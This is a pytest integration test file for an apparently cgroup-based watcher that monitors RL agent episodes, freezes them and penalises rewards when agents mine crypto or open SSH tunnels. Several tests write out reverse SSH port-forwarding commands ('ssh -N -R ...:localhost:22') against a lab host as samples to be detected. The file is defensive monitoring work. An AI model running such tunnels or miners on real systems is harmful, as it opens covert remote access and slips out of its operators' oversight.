"""RL integration end to end: a real watcher on a parent cgroup, episodes made by the client,
scripted agents (one honest, one mining, one tunnelling) against real peers, verdicts and
rewards from them; labels from the cgroup and from the agents' environment."""

from __future__ import annotations

import grp
import json
import os
import shutil
import subprocess
import sys
import tempfile
import threading
import time
import uuid
from collections import Counter
from pathlib import Path

import pytest

from agentprobe.cgroups import find_v2_mount, remove_cgroup_tree
from agentprobe.lab import Internet
from agentprobe.stream import read_records
from agentprobe.verdicts import META_TYPES

pytestmark = [pytest.mark.kernel, pytest.mark.userland]
REPO = Path(__file__).resolve().parent.parent


class World(tuple):
    """(parent cgroup, socket, stream file, lab network), and the NATS server's url."""

    def __new__(cls, items, nats: str):
        self = super().__new__(cls, items)
        self.nats = nats
        return self


@pytest.fixture(scope="module")
def world(tmp_path_factory):
    from natsutil import NatsServer
    from watcher import WatcherProcess

    root = find_v2_mount()
    parent = root / f"agentprobe-rl-{uuid.uuid4().hex[:6]}"
    parent.mkdir()
    tmp = tmp_path_factory.mktemp("rl")
    sockdir = Path(tempfile.mkdtemp(prefix="agentprobe-rl-"))
    sockdir.chmod(0o711)  # reachable by an unprivileged trainer when the socket lets it
    sock, out = sockdir / "ap.sock", tmp / "stream.msgpack"
    label_dir = tmp / "labels"  # where a sandbox manager writes <cgroup id>.json
    label_dir.mkdir()
    (tmp / "nats").mkdir()
    nats = NatsServer(tmp / "nats").start()  # the client may read the records from NATS instead
    w = None
    try:
        with Internet() as net:
            group = grp.getgrgid(65534).gr_name  # the trainers' group: nogroup here
            w = WatcherProcess(["--cgroup", str(parent), "-o", f"unix:{sock}?group={group}", "-o", str(out),
                                "-o", nats.url, "--no-view",
                                "--label-env", "EPISODE_ID,TOOL_CALL_ID", "--label-dir", str(label_dir)])
            yield World((parent, sock, out, net), nats.url)
    finally:
        if w is not None:
            w.stop()
        nats.stop()
        remove_cgroup_tree(parent)
        shutil.rmtree(sockdir, ignore_errors=True)


def file_verdicts(out: Path, n: int) -> dict:
    deadline = time.monotonic() + 5
    while True:
        got = {r["labels"].get("policy"): r for r in read_records(str(out)) if r["type"] == "verdict"}
        if len(got) >= n or time.monotonic() > deadline:
            return got
        time.sleep(0.05)


def test_rewards_penalised_from_verdicts(world):
    parent, sock, out, net = world
    sys.path.insert(0, str(REPO / "examples"))
    try:
        import rl_loop
    finally:
        sys.path.pop(0)
    pool = f"{net.addr}:{net.pool_port}"
    got = {}
    for policy, calls in rl_loop.policies(pool).items():
        o = rl_loop.run_episode(f"ep-{policy}", policy, calls, str(parent), str(sock))
        got[policy] = o
    assert (got["honest"].verdict, got["honest"].reward, got["honest"].kept) == ("clean", 3.0, True)
    assert got["miner"].verdict == "frozen" and got["miner"].reward == rl_loop.PENALTY and not got["miner"].kept
    assert "mining_pool_connection" in got["miner"].rules
    assert got["tunneler"].verdict == "frozen" and "ssh_port_forwarding" in got["tunneler"].rules
    # the same verdicts offline, from the msgpack file alone (flushed every 100 ms)
    verdicts = file_verdicts(out, 3)
    assert {p: v["clean"] for p, v in verdicts.items()} == {"honest": True, "miner": False, "tunneler": False}
    assert verdicts["miner"]["labels"]["episode"] == "ep-miner"
    assert verdicts["miner"]["first_alert"]["rule"] in ("mining_pool_connection", "stratum_protocol")
    assert verdicts["miner"]["reason"] == "cgroup_removed"


def test_labels_from_the_cgroup_and_the_environment_on_every_record(world):
    parent, sock, out, net = world
    from agentprobe.client import Episode

    with Episode("ep-labels", labels={"episode": "42", "trajectory": "t-\x1b[2J"}, parent=str(parent),
                 socket=str(sock)) as ep:
        ep.run([sys.executable, "-c", "import subprocess; subprocess.run(['/bin/true'])"],
               env={"EPISODE_ID": "env-42", "TOOL_CALL_ID": "7"})
        # a child that clears its environment stays in its episode; a variable it sets wins
        ep.run(["/bin/sh", "-c", "env -i TOOL_CALL_ID=7b /bin/echo cleared; true"],
               env={"EPISODE_ID": "env-42", "TOOL_CALL_ID": "7", "PATH": "/usr/bin:/bin"})
        r = ep.run(["/bin/sh", "-c", f"exec ssh -o BatchMode=yes -o ConnectTimeout=2 -N -R 9001:localhost:22 "
                                     f"x@{net.addr}"],
                   env={"EPISODE_ID": "env-42", "TOOL_CALL_ID": "8", "PATH": "/usr/bin:/bin"}, timeout=30)
        assert r.frozen and r.returncode == -9 and ep.frozen  # frozen mid-call: killed, returned at once
    v = ep.verdict
    time.sleep(0.3)  # the file output is flushed every 100 ms
    recs = [r for r in read_records(str(out)) if (r.get("cgroup") or {}).get("path") == ep.rel]
    execs = [r for r in recs if r["type"] == "exec"]
    true = next(r for r in execs if r["argv"] == ["/bin/true"])  # a child: inherits the env labels
    assert true["labels"] == {"episode": "42", "trajectory": "t-\\x1b[2J", "EPISODE_ID": "env-42",
                              "TOOL_CALL_ID": "7"}
    cleared = next(r for r in execs if r["argv"] == ["/bin/echo", "cleared"])
    assert cleared["labels"] == {**true["labels"], "TOOL_CALL_ID": "7b"}
    alert = next(r for r in recs if r["type"] == "alert")
    assert alert["rule"] == "ssh_port_forwarding" and alert["labels"]["TOOL_CALL_ID"] == "8"
    resp = next(r for r in recs if r["type"] == "response")
    assert resp["outcome"] == "frozen" and resp["labels"] == alert["labels"]
    assert v.frozen and v.rules == {"ssh_port_forwarding": 1} and v.labels["episode"] == "42"
    assert v.labels["trajectory"] == "t-\\x1b[2J"  # escaped, never interpreted


def test_read_verdicts_lists_them(world, agentprobe_cmd):
    _, _, out, _ = world
    file_verdicts(out, 3)
    r = subprocess.run([*agentprobe_cmd, "read", "--verdicts", str(out)], capture_output=True, text=True)
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert lines[0].split()[:3] == ["EPISODE", "VERDICT", "ALERTS"]
    assert any("ep-honest" in x and " clean " in x and "policy=honest" in x for x in lines)
    assert any("ep-miner" in x and " frozen " in x for x in lines)
    assert "\x1b" not in r.stdout


CLIENT_AS_USER = r"""
import json, sys
from agentprobe.client import Episode
with Episode("ep-user", labels={"episode": "u1"}, parent=sys.argv[1], socket=sys.argv[2]) as ep:
    ssh = "exec ssh -o BatchMode=yes -o ConnectTimeout=2 -N -R 9002:localhost:22 u@" + sys.argv[3]
    r = ep.run(["/bin/sh", "-c", ssh], timeout=30)
print(json.dumps({"frozen": r.frozen, "rules": ep.verdict.rules, "labels": ep.verdict.labels}))
"""


def test_client_as_an_unprivileged_user_with_a_delegated_cgroup(world):
    """The site delegates the watched parent cgroup to the trainer's user (owner of the directory and
    its cgroup.procs, cgroup.threads, cgroup.subtree_control) and serves the stream to its group: the
    client makes, labels and removes episodes and gets verdicts without root."""
    parent, sock, _, net = world
    nobody = 65534
    for name in ("", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
        os.chown(parent / name if name else parent, nobody, nobody)
    assert os.stat(sock).st_mode & 0o777 == 0o660  # -o unix:PATH?group=nogroup: the trainers' group reads
    # the trainer's program, a file it can read (as `python3 -c` its text would look like a reverse shell)
    script_dir = Path(tempfile.mkdtemp(prefix="agentprobe-trainer-"))
    script_dir.chmod(0o755)
    script = script_dir / "trainer.py"
    script.write_text(CLIENT_AS_USER)
    script.chmod(0o644)

    def into_parent() -> None:  # the trainer runs inside its delegated subtree, as systemd would place it
        (parent / "cgroup.procs").write_text(str(os.getpid()))

    try:
        r = subprocess.run(["setpriv", f"--reuid={nobody}", f"--regid={nobody}", "--clear-groups",
                            sys.executable, str(script), str(parent), str(sock), net.addr],
                           preexec_fn=into_parent, capture_output=True, text=True, timeout=60,
                           env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
    finally:
        shutil.rmtree(script_dir, ignore_errors=True)
        for name in ("", "cgroup.procs", "cgroup.threads", "cgroup.subtree_control"):
            os.chown(parent / name if name else parent, 0, 0)
    assert r.returncode == 0, r.stderr
    got = json.loads(r.stdout.strip().splitlines()[-1])
    assert got == {"frozen": True, "rules": {"ssh_port_forwarding": 1}, "labels": {"episode": "u1"}}
    assert not (parent / "ep-user").exists()


def episode_records(out: Path, rel: str, until_verdict: bool = True) -> list[dict]:
    """The episode's records in the stream file, waiting (5 s) for its verdict."""
    deadline = time.monotonic() + 5
    while True:
        recs = [r for r in read_records(str(out)) if (r.get("cgroup") or {}).get("path") == rel]
        if not until_verdict or any(r["type"] == "verdict" for r in recs) or time.monotonic() > deadline:
            return recs
        time.sleep(0.05)


def test_the_client_sees_every_record_of_its_episode_live(world):
    """The tunnel is the episode's first tool call, started at once after the client connected: its
    alert and the freeze come to alerts(), wait_alert() and stream(), and the client holds every
    record of the episode that the stream file has (it waits for the watcher's start record before
    it makes the cgroup, so none is missed)."""
    parent, sock, out, net = world
    from agentprobe.client import Episode

    ep = Episode("ep-live", labels={"episode": "live"}, parent=str(parent), socket=str(sock))
    ep.start()
    try:
        live = []
        reader = threading.Thread(target=lambda: live.extend(ep.stream()), daemon=True)
        reader.start()  # follows the records as they come, until the verdict
        tunnel = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-N", "-R", "9003:localhost:22",
                  f"x@{net.addr}"]
        r = ep.run(tunnel, env={"PATH": "/usr/bin:/bin"}, timeout=30)
        assert r.frozen
        alert = ep.wait_alert(timeout=5)
        assert alert["rule"] == "ssh_port_forwarding" and alert["proc"]["cmdline"] == tunnel
        assert [a["rule"] for a in ep.alerts()] == ["ssh_port_forwarding"]
        assert [(x["rule"], x["outcome"]) for x in ep.responses()] == [("ssh_port_forwarding", "frozen")]
    finally:
        v = ep.end()
    reader.join(5)
    assert live and live[-1]["type"] == "verdict" and live[-1]["seq"] == v.record["seq"]
    assert [x["rule"] for x in live if x["type"] in ("alert", "response")] == ["ssh_port_forwarding"] * 2
    first_exec = next(x for x in live if x["type"] == "exec")
    assert first_exec["argv"] == tunnel  # the tool call's own exec, right after the join
    in_file = episode_records(out, ep.rel)
    assert [x["seq"] for x in live] == [x["seq"] for x in in_file]  # nothing missed, nothing more
    assert ep.dropped == 0 and sum(ep.counts.values()) == len(in_file)


def test_episode_cgroup_removed_behind_the_clients_back(world):
    parent, sock, _, _ = world
    from agentprobe.client import ClientError, Episode

    with Episode("ep-removed", parent=str(parent), socket=str(sock)) as ep:
        assert ep.run(["/bin/true"]).returncode == 0
        remove_cgroup_tree(ep.path)  # the sandbox manager tore it down
        with pytest.raises(ClientError, match=r"episode cgroup .*/ep-removed was removed; end\(\) still gets"):
            ep.run(["/bin/true"])
        with pytest.raises(ClientError, match="was removed"):
            ep.popen(["/bin/true"])
    assert ep.verdict.record["reason"] == "cgroup_removed" and ep.verdict.clean


CLIENT_THAT_DIES = r"""
import sys
from agentprobe.client import Episode
ep = Episode("ep-dies", labels={"episode": "dies"}, parent=sys.argv[1], socket=sys.argv[2])
ep.start()
r = ep.run(["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-N", "-R", "9004:localhost:22",
            "x@" + sys.argv[3]], timeout=30, env={"PATH": "/usr/bin:/bin"})
print("frozen" if r.frozen else "not frozen", flush=True)
sys.stdin.read()  # killed here, mid-episode, its stream unread
"""


def test_a_client_that_dies_mid_episode_costs_nothing(world):
    """The trainer is killed with its episode open: the watcher carries on, serves the next client,
    and the stream file still gets the episode's records and, once the cgroup goes, its verdict."""
    parent, sock, out, net = world
    from agentprobe.client import Episode

    p = subprocess.Popen([sys.executable, "-c", CLIENT_THAT_DIES, str(parent), str(sock), net.addr],
                         stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
                         env={"PYTHONPATH": str(REPO), "PATH": "/usr/bin:/bin"})
    try:
        assert p.stdout.readline().strip() == "frozen", p.stderr.read() if p.poll() is not None else ""
    finally:
        p.kill()
        p.wait()
    orphan = parent / "ep-dies"
    assert orphan.exists()
    with Episode("ep-after", parent=str(parent), socket=str(sock)) as ep:  # the watcher serves the next one
        ep.run(["/bin/true"])
    assert ep.verdict.clean and ep.verdict.record["events"].get("exec", 0) >= 1
    remove_cgroup_tree(orphan)
    recs = episode_records(out, "/" + str(orphan.relative_to(find_v2_mount())))
    verdict = next(r for r in recs if r["type"] == "verdict")
    assert verdict["rules"] == {"ssh_port_forwarding": 1} and verdict["frozen"] and verdict["labels"] == {
        "episode": "dies"}
    assert [r["rule"] for r in recs if r["type"] == "alert"] == ["ssh_port_forwarding"]
    assert verdict["events"] == dict(Counter(r["type"] for r in recs if r["type"] not in META_TYPES))
    assert not [r for r in read_records(str(out)) if r["type"] == "lost" and r.get("source") == "output"]


def test_labels_from_a_sandbox_managers_label_file(world):
    """--label-dir: the file DIR/<cgroup id>.json labels the cgroup's records, escaped, over the
    cgroup's own labels."""
    parent, sock, out, _ = world
    from agentprobe.client import Episode

    label_dir = out.parent / "labels"
    with Episode("ep-file", labels={"episode": "x", "policy": "p1"}, parent=str(parent), socket=str(sock)) as ep:
        f = label_dir / f"{os.stat(ep.path).st_ino}.json"
        f.write_text(json.dumps({"episode": "from-file", "sandbox": "sb-\x1b9", "bad key": "dropped"}))
        try:
            ep.run(["/bin/echo", "labelled"])
        finally:
            f.unlink()
    rec = next(r for r in episode_records(out, ep.rel) if r["type"] == "exec")
    assert rec["argv"] == ["/bin/echo", "labelled"]
    assert rec["labels"] == {"episode": "from-file", "policy": "p1", "sandbox": "sb-\\x1b9"}
    assert ep.verdict.labels == rec["labels"]


def test_the_client_over_nats(world):
    """The same episode read from NATS (the watcher's `-o nats://`): subscribed before the cgroup
    exists, it gets the alert, the freeze and the verdict, and every record the stream file has."""
    parent, _, out, net = world
    from agentprobe.client import Episode

    with Episode("ep-nats", labels={"episode": "n1"}, parent=str(parent), socket="/nonexistent",
                 nats=world.nats) as ep:
        tunnel = ["ssh", "-o", "BatchMode=yes", "-o", "ConnectTimeout=2", "-N", "-R", "9005:localhost:22",
                  f"x@{net.addr}"]
        assert ep.run(tunnel, env={"PATH": "/usr/bin:/bin"}, timeout=30).frozen
        assert ep.wait_alert(timeout=5)["rule"] == "ssh_port_forwarding"
    v = ep.verdict
    assert v.frozen and v.rules == {"ssh_port_forwarding": 1} and v.labels == {"episode": "n1"}
    assert [(r["rule"], r["outcome"]) for r in v.responses] == [("ssh_port_forwarding", "frozen")]
    in_file = episode_records(out, ep.rel)
    assert [r["seq"] for r in ep.records] == [r["seq"] for r in in_file]
